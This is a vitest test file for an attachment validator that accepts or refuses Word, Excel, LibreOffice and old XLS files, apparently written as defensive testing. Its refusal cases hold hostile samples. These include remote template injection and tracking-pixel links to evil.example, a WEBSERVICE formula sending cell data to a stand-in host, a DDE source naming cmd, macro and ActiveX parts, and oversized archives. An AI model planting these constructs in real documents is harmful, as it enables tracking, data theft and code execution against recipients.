import { describe, expect, it } from "vitest";
import {
  archiveOf,
  docx,
  ods,
  override,
  RELATIONSHIP,
  relationships,
  WORD_DOCUMENT,
  workbook,
  XLSX_MAIN,
  xls,
  xlsRecord,
  xlsx,
} from "../../../../tests/support/documents";
import { contentOf as contentIn } from "./attachment-content.server";

const contentOf = (bytes: Buffer) => contentIn(bytes, 40_000_000);

const OFFICE = "application/vnd.openxmlformats-officedocument";
const main = override("/word/document.xml", WORD_DOCUMENT);
const settings = (...all: string[]) =>
  docx({ more: [{ name: "word/_rels/settings.xml.rels", contents: relationships(...all) }] });
const relation = (kind: string, target: string, mode = "External") =>
  `<Relationship Id="rId1" Type="${RELATIONSHIP}/${kind}" Target="${target}" TargetMode="${mode}"/>`;

describe("a Word document", () => {
  it.each<[string, Buffer]>([
    ["as Word writes it", docx()],
    ["with links", settings(relation("hyperlink", "https://primarie.ro/?a=1&amp;b=2"))],
    ["with pictures of its own", settings(relation("image", "media/image1.png", "Internal"))],
    [
      "with a table of another program in it",
      docx({ types: [main, override("/word/a.xlsx", `${OFFICE}.spreadsheetml.sheet`)] }),
    ],
    [
      "that remembers the template on its author's disk",
      settings(relation("attachedTemplate", "file:///C:\\Users\\Ana\\Normal.dotm")),
    ],
  ])("%s is taken", async (_, bytes) => {
    expect(await contentOf(bytes)).toEqual({ kind: "docx", bytes });
  });

  it.each<[string, Buffer, string]>([
    [
      "whose main part may hold macros",
      docx({ types: [override("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")] }),
      "macros",
    ],
    [
      "with macros in a part of another name",
      docx({ types: [main, override("/word/theme.bin", "application/vnd.ms-office.vbaProject")] }),
      "macros",
    ],
    [
      "with macros by their ending",
      docx({ types: [main, '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'] }),
      "macros",
    ],
    ["with a relationship to macros", settings(relation("vbaProject", "theme.bin", "Internal")), "macros"],
    [
      "with a control that runs",
      docx({ types: [main, override("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")] }),
      "macros",
    ],
    [
      "that is a presentation",
      docx({ types: [override("/word/document.xml", `${OFFICE}.presentationml.presentation.main+xml`)] }),
      "presentation",
    ],
    [
      "that is a template",
      docx({ types: [override("/word/document.xml", `${OFFICE}.wordprocessingml.template.main+xml`)] }),
      "kind",
    ],
    [
      "that is a workbook too",
      docx({ types: [main, override("/xl/workbook.xml", `${OFFICE}.spreadsheetml.sheet.main+xml`)] }),
      "kind",
    ],
    ["without any content types", docx({ types: [] }), "kind"],
    [
      "with a template from elsewhere",
      settings(relation("attachedTemplate", "https://evil.example/t.dotm")),
      "external",
    ],
    ["with a template from a share", settings(relation("attachedTemplate", "file://server/share/t.dotm")), "external"],
    [
      "with a template by another way to write it",
      settings(relation("attachedTemplate", "&#x68;ttps://evil.example/t.dotm", "&#69;xternal")),
      "external",
    ],
    [
      "with a template in single quotes and a prefix",
      settings(
        `<r:Relationship Id='a' Title=">" TargetMode='External' Target='http://e.example/t' Type='${RELATIONSHIP}/attachedTemplate'/>`,
      ),
      "external",
    ],
    [
      "with a template that says it is inside",
      settings(relation("attachedTemplate", "\\\\server\\share\\t.dotm", "Internal")),
      "external",
    ],
    ["with a picture from elsewhere", settings(relation("image", "https://evil.example/pixel.png")), "external"],
    [
      "with a picture from elsewhere, and another target beside it",
      settings(
        relation("image", "https://evil.example/p.png").replace("/>", ' x:Target="a" x:TargetMode="Internal"/>'),
      ),
      "external",
    ],
    [
      "with an object from elsewhere",
      settings(relation("oleObject", "mhtml:https://evil.example/x!x-usc")),
      "external",
    ],
    [
      "with relationships in another encoding",
      docx({
        more: [
          {
            name: "word/_rels/settings.xml.rels",
            contents: Buffer.from(relationships(relation("attachedTemplate", "http://e.example/t")), "utf16le"),
          },
        ],
      }),
      "external",
    ],
    ["with entities of its own", settings('<!DOCTYPE x [<!ENTITY e "http://e.example">]>'), "kind"],
    ["with two parts of one name", docx({ more: [{ name: "WORD/document.xml", contents: "" }] }), "kind"],
    [
      "whose relationships unpack into more than they say",
      docx({ more: [{ name: "word/_rels/a.rels", contents: Buffer.alloc(40 * 1024 * 1024, 32), size: 100 }] }),
      "kind",
    ],
  ])("%s is refused", async (_, bytes, problem) => {
    expect(await contentOf(bytes)).toEqual({ problem });
  });
});

const SHEET = `${OFFICE}.spreadsheetml.worksheet+xml`;
/** A workbook with this in one of its sheets, whose name says nothing. */
const sheet = (contents: string, type = override("/xl/a.xml", SHEET)) =>
  xlsx({
    types: [override("/xl/workbook.xml", XLSX_MAIN), type],
    more: [{ name: "xl/a.xml", contents: `<worksheet>${contents}</worksheet>` }],
  });

describe("a workbook of Excel", () => {
  it.each<[string, Buffer]>([
    ["with formulas", sheet('<c r="A1"><f>SUM(B1:B9)&amp;"a:b"</f><v>3</v></c>')],
    ["with a link that is opened by a click", sheet('<c><f>HYPERLINK("https://primarie.ro","primărie")</f></c>')],
    ["that speaks of such formulas", sheet("<c><is><t>=WEBSERVICE(adresa)</t></is></c>")],
    ["that is long", sheet('<c r="A1" s="1"><f>A1+1</f><v>1</v></c>'.repeat(100_000))],
  ])("%s is taken", async (_, bytes) => {
    expect(await contentOf(bytes)).toEqual({ kind: "xlsx", bytes });
  });

  it.each<[string, Buffer, string]>([
    [
      "that may hold macros",
      xlsx({ types: [override("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")] }),
      "macros",
    ],
    [
      "with macros of 1992",
      workbook(override("/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")),
      "macros",
    ],
    [
      "that reads another workbook or a program",
      workbook(override("/xl/externalLinks/externalLink1.xml", `${OFFICE}.spreadsheetml.externalLink+xml`)),
      "external",
    ],
    [
      "that reads a database",
      workbook(override("/xl/connections.xml", `${OFFICE}.spreadsheetml.connections+xml`)),
      "external",
    ],
    [
      "with a picture from elsewhere",
      xlsx({
        more: [
          {
            name: "xl/drawings/_rels/drawing1.xml.rels",
            contents: relationships(relation("image", "https://evil.example/pixel.png")),
          },
        ],
      }),
      "external",
    ],
    [
      "whose formula asks the network",
      sheet('<c><f>_xlfn.WEBSERVICE("http://e.example?"&amp;A1)</f><v/></c>'),
      "external",
    ],
    ["whose formula shows a picture from elsewhere", sheet("<c><f>_xlfn.IMAGE(A1)</f></c>"), "external"],
    ["whose formula reads a program", sheet("<c><f t='shared'>RTD(&quot;a.b&quot;,,1)</f></c>"), "external"],
    [
      "whose formula asks the network, in letters by their numbers",
      sheet("<x:f a='>'>&#87;EBSERVICE(A1)</x:f>"),
      "external",
    ],
    ["with a rule that asks the network", sheet("<cfRule><formula>WEBSERVICE(A1)=1</formula></cfRule>"), "external"],
    [
      "with a sheet that is known only by its ending",
      sheet("<c><f>WEBSERVICE(A1)</f></c>", `<Default Extension="xml" ContentType="${SHEET}"/>`),
      "external",
    ],
    [
      "with a name that asks the network",
      xlsx({
        more: [
          {
            name: "xl/workbook.xml",
            contents: '<workbook><definedName name="a">WEBSERVICE("http://e")</definedName></workbook>',
          },
        ],
      }),
      "external",
    ],
    [
      "with a sheet that is also said to be something else",
      sheet("<f>WEBSERVICE(A1)</f>", override("/xl/a.xml", SHEET) + override("/xl/a.xml", `${OFFICE}.theme+xml`)),
      "kind",
    ],
    ["with a sheet that unpacks into too much", sheet(" ".repeat(49 * 1024 * 1024)), "heavy"],
  ])("%s is refused", async (_, bytes, problem) => {
    expect(await contentOf(bytes)).toEqual({ problem });
  });
});

describe("a spreadsheet of LibreOffice", () => {
  it.each<[string, Buffer]>([
    ["as it is written", ods()],
    ["with a link", ods({ content: '<text:a xlink:href="https://primarie.ro">x</text:a>' })],
    ["with a picture of its own", ods({ content: '<draw:image xlink:href="Pictures/1.png"/>' })],
    ["with formulas", ods({ content: `<table:table-cell table:formula="of:=SUM([.A1:.A9])+&quot;a:b&quot;"/>` })],
    [
      "with a link in a formula",
      ods({ content: '<c table:formula="of:=HYPERLINK(&quot;https://primarie.ro&quot;;&quot;x&quot;)"/>' }),
    ],
    ["with an empty list of programs", ods({ content: "<office:scripts/>" })],
    ["that is long", ods({ content: "<table:table-cell/>".repeat(100_000) })],
  ])("%s is taken", async (_, bytes) => {
    expect(await contentOf(bytes)).toEqual({ kind: "ods", bytes });
  });

  it.each<[string, Buffer, string]>([
    ["with a library of programs", ods({ more: [{ name: "Basic/script-lc.xml", contents: "<a/>" }] }), "macros"],
    ["with programs in a folder", ods({ more: [{ name: "Scripts/python/x.py", contents: "x" }] }), "macros"],
    [
      "that runs something when it opens",
      ods({ content: '<office:scripts><script:event-listener script:language="x"/></office:scripts>' }),
      "macros",
    ],
    [
      "with a button that runs something",
      ods({ content: '<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>' }),
      "macros",
    ],
    [
      "with a picture from elsewhere",
      ods({ content: '<draw:image xlink:href="https://e.example/p.png"/>' }),
      "external",
    ],
    ["with a picture from a share", ods({ content: "<draw:image xlink:href='//server/p.png'/>" }), "external"],
    [
      "with a picture from elsewhere, and another address beside it",
      ods({ content: '<draw:image xlink:href="https://e.example/p.png" x:href="Pictures/1.png"/>' }),
      "external",
    ],
    ["with a style from elsewhere", ods({ styles: '<draw:fill-image xlink:href="http://e.example/"/>' }), "external"],
    [
      "that reads another table, under another prefix",
      ods({ content: '<x:table-source xmlns:x="urn:table" y:href="a.ods"/>' }),
      "external",
    ],
    ["that reads a program", ods({ content: '<office:dde-source office:dde-application="cmd"/>' }), "external"],
    [
      "whose formula asks the network",
      ods({ content: '<c f:formula="of:=WEBSERVICE(&quot;http://e.example&quot;)"/>' }),
      "external",
    ],
    [
      "whose formula reads a file",
      ods({ content: "<c table:formula=\"of:=['file:///C:/x.ods'#$Foaie1.A1]\"/>" }),
      "external",
    ],
    [
      "with a picture from elsewhere, across the end of a slice",
      ods({
        content: `${" ".repeat(256 * 1024 - 150)}<draw:image a="${"b".repeat(300)}" xlink:href="https://e.example/"/>`,
      }),
      "external",
    ],
    ["that is encrypted", ods({ manifest: "<m:encryption-data/>" }), "password"],
    ["with entities of its own", ods({ content: '<!DOCTYPE x [<!ENTITY e "a">]>' }), "kind"],
    ["that is no archive of sheets", archiveOf("mimetype"), "kind"],
    ["that unpacks into too much", ods({ content: " ".repeat(49 * 1024 * 1024) }), "heavy"],
  ])("%s is refused", async (_, bytes, problem) => {
    expect(await contentOf(bytes)).toEqual({ problem });
  });
});

describe("an old workbook", () => {
  /** A sheet: its place, whether it is shown, its kind. */
  const sheet = (kind: number) => xlsRecord(0x85, 0, 0, kind << 8, 0x0101);
  const long = Array.from({ length: 300 }, () => xlsRecord(0x203, ...Array<number>(20).fill(7)));

  it.each([
    ["of one sheet", xls(sheet(0))],
    ["of many sectors", xls(sheet(0), ...long)],
    ["that names itself", xls(sheet(0), xlsRecord(0x1ae, 1, 0x0401))],
  ])("%s is taken", async (_, bytes) => {
    expect(await contentOf(bytes)).toEqual({ kind: "xls", bytes });
  });

  it.each([
    ["with a password", xls(xlsRecord(0x2f, 1), sheet(0)), "password"],
    ["with a sheet of old macros", xls(sheet(0), sheet(1)), "macros"],
    ["with a project of code", xls(xlsRecord(0xd3), sheet(0)), "macros"],
    [
      "with the folder of a project",
      Buffer.concat([xls(sheet(0)), Buffer.from("_VBA_PROJECT\0", "utf16le")]),
      "macros",
    ],
    ["that loads another one", xls(sheet(0), xlsRecord(0x1ae, 1, 9, 0x41)), "external"],
    ["with macros after many sectors", xls(sheet(0), ...long, sheet(1)), "macros"],
    ["with a query of the web", xls(sheet(0), xlsRecord(0x1ad, 0, 0)), "external"],
    ["that breaks off", xls(sheet(0), ...long).subarray(0, 3000), "xls"],
    ["of Excel 5", xls(sheet(0)).fill(5, 512 * 10 + 5, 512 * 10 + 6), "xls"],
  ])("%s is refused", async (_, bytes, problem) => {
    expect(await contentOf(bytes)).toEqual({ problem });
  });

  it("whose sectors go round ends", async () => {
    const bytes = xls(sheet(0));
    bytes.writeUInt32LE(9, 512 + 4 * 2);
    expect(await contentOf(bytes)).toEqual({ problem: "xls" });
  });
});
